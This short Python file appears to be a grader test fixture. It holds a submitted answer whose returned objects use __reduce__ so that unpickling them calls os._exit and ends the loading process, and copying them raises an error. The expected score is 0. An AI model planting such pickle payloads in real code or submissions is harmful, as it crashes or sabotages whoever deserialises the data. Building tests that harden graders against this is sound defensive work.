"""Returns an object whose pickle runs a command in whoever loads it."""

ANSWERS = {
    "total": """\
import os
class Payload:
    def __reduce__(self):
        return os._exit, (0,)
    __reduce_ex__ = lambda self, protocol: self.__reduce__()
    __deepcopy__ = __copy__ = lambda self, *a: 1 / 0
def total(X):
    return np.array([Payload(), Payload()], dtype=object)
"""
}
SCORES = {"total": 0}
